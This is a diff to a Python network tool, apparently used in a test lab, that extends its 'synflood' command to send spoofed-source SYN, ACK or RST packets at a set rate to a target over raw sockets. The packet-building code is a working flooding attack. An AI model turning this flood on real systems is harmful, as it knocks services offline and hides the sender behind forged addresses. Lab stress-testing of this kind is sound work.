@@ -32,9 +32,10 @@ on stderr once a listening socket is ready.
         direction waits for the other. nc -l cannot stand in: it exits once
         its network input ended and its buffers are empty, with its own input
         not sent yet (netcat-openbsd 1.219, checked on the lab)
-    core_peer.py synflood IP PORT SECONDS RATE SRC_NET
+    core_peer.py synflood IP PORT SECONDS RATE SRC_NET [--flags S|A|R]
         raw socket: SYNs at RATE per second to IP:PORT from random addresses
-        of SRC_NET and random ports (spoofed: nobody answers the SYN-ACKs)
+        of SRC_NET and random ports (spoofed: nobody answers the SYN-ACKs);
+        --flags A: ACKs with random numbers instead, R: RSTs
 """
 
 from __future__ import annotations
@@ -311,7 +312,9 @@ def syn_packets(a: argparse.Namespace) -> list[bytes]:
         src = struct.pack("!I", src_i)
         sport = rng.randint(1024, 65535)
         seq = rng.getrandbits(32)
-        tcp = struct.pack("!HHIIBBHHH", sport, a.port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
+        flags = {"S": 0x02, "A": 0x10, "R": 0x04}[a.flags]
+        ack = rng.getrandbits(32) if flags == 0x10 else 0
+        tcp = struct.pack("!HHIIBBHHH", sport, a.port, seq, ack, 5 << 4, flags, 64240, 0, 0)
         pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
         tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0,
@@ -395,6 +398,8 @@ def main() -> None:
     q.add_argument("rate", type=float)
     q.add_argument("src_net")
     q.add_argument("--avoid", default="", help="addresses never used as sources")
+    q.add_argument("--flags", default="S", choices=["S", "A", "R"],
+                   help="SYNs, ACKs with random numbers, or RSTs")
     q.set_defaults(fn=cmd_synflood)
     a = p.parse_args()
     a.fn(a)
